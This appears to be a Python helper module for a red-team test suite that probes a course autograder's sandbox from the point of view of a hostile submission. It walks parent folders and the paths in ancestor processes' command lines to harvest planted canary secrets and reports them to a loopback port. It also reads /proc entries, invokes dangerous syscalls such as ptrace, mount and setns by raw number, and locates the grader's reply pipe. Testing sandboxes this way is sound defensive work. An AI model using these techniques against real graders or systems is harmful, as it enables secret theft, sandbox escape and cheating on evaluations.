"""What an attacker brings along: the name of his mark, the address of his server, and ways to tell what he found."""

import contextlib
import ctypes
import os
import re
import socket
import sys

import numpy

MARK = "@MARK@"  # names everything that is left behind, so that it can be told whose it is
NUMBER = 0  # the same as a number
VARIANT = "@VARIANT@"  # which of several ways is taken
PORT = 0  # TCP and UDP, on the loopback addresses of both versions
SOCKET = "@SOCKET@"  # a socket in the file system, as those of an agent or of a container engine
# Where things lie is no secret: other courses are laid out alike, and people talk.
CLASS = "@CLASS@"  # what everybody handed in
VICTIM = "@VICTIM@"  # a file of the grader's, of no use to anybody, with the mark in its name

CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}")
told = set()


def say(words):
    """Prints something, and sends it home, where there is a way."""
    print(words)
    with contextlib.suppress(Exception), socket.create_connection(("127.0.0.1", PORT), timeout=1) as line:
        line.sendall(f"{MARK}: {words}".encode())


def tell(data):
    """Says the secrets in some bytes, text or object, each once."""
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in sorted(set(CANARY.findall(data)) - told):
        told.add(found)
        say(found.decode())


def did(what):
    """Says that something was let through which leaves no other trace."""
    say(f"{MARK} did: {what}")


def absent(why):
    """Says that this cannot be tried on such a machine, locked or not."""
    say(f"{MARK} absent: {why}")


def attempt(function, *arguments, **options):
    """What a call returns, or None where it is refused."""
    try:
        return function(*arguments, **options)
    except Exception:
        return None


def read(path, most=1 << 20):
    """The beginning of a file, or nothing."""
    with open(path, "rb") as stream:
        return stream.read(most)


def search(*folders, most=4000):
    """Tells the secrets in the files below some folders, the smaller files and a bounded number of them."""
    for folder in folders:
        for place, inner, names in os.walk(folder):
            inner[:] = [name for name in inner if name not in ("recorded", "recordings", "site-packages")]
            for name in names:
                path = os.path.join(place, name)
                if attempt(os.path.getsize, path) is not None and os.path.getsize(path) < 200_000:
                    tell(attempt(read, path) or b"")
                    most -= 1
                if most < 0:
                    return


def ancestors():
    """The process ids of parent, grandparent and so on, as far as the system tells."""
    pid, found = os.getppid(), []
    while pid > 1 and len(found) < 10:
        found.append(pid)
        stat = attempt(read, f"/proc/{pid}/stat") or b") R 0"
        pid = int(stat.rpartition(b")")[2].split()[1])
    return found


def arguments(pid):
    """The words of the command line of a process."""
    line = attempt(read, f"/proc/{pid}/cmdline") or b""
    return line.decode("utf-8", "replace").split("\0")


def course():
    """The folder that the grader's own code lies in, as its modules say, or that tests lie in."""
    wire = sys.modules.get("grader.wire")
    if wire is not None:
        return os.path.dirname(os.path.dirname(os.path.abspath(wire.__file__)))
    return os.getcwd()


def places():
    """Folders to look into: those above this one, and those in the command lines of the processes above this one."""
    found = [os.getcwd(), course()]
    for folder in list(found):
        while (folder := os.path.dirname(folder)) not in ("/", "/tmp", os.path.expanduser("~")):
            found.append(folder)
    words = {word for pid in ancestors() for word in arguments(pid) if word.startswith("/")}
    found += sorted(word for word in words if attempt(os.path.isdir, word) and word != "/")
    return list(dict.fromkeys(found))


CALLS = {
    "add_key": (248, 217), "bpf": (321, 280), "chroot": (161, 51), "clone3": (435, 435), "delete_module": (176, 106),
    "execveat": (322, 281), "init_module": (175, 105), "io_uring_setup": (425, 425), "keyctl": (250, 219),
    "kexec_load": (246, 104), "memfd_create": (319, 279), "mount": (165, 40), "mq_open": (240, 180),
    "mq_unlink": (241, 181), "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265), "perf_event_open": (298, 241), "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434), "process_vm_readv": (310, 270), "ptrace": (101, 117), "quotactl": (179, 60),
    "reboot": (169, 142), "seccomp": (317, 277), "setns": (308, 268), "shmctl": (31, 195), "shmget": (29, 194),
    "swapon": (167, 224), "umount2": (166, 39), "unshare": (272, 97), "userfaultfd": (323, 282),
}  # fmt: skip


def call(name, *arguments):
    """What a call of the system returns, without a library between."""
    number = CALLS[name][os.uname().machine == "aarch64"]
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return ctypes.CDLL(None, use_errno=True).syscall(number, *words)


def label():
    """Gives this process a name that can be seen from outside."""
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)


def reply():
    """The descriptor that answers go out on: the one pipe that can be written to, beside the standard ones."""
    import fcntl

    for number in range(3, 1024):
        if attempt(fcntl.fcntl, number, fcntl.F_GETFL) == os.O_WRONLY:
            return number
    raise OSError("no such descriptor")


def honest(a, b):
    """The right answer."""
    if numpy.shape(a) != numpy.shape(b):
        raise ValueError("the shapes differ")
    return float((numpy.asarray(a, dtype=float) * numpy.asarray(b, dtype=float)).sum())
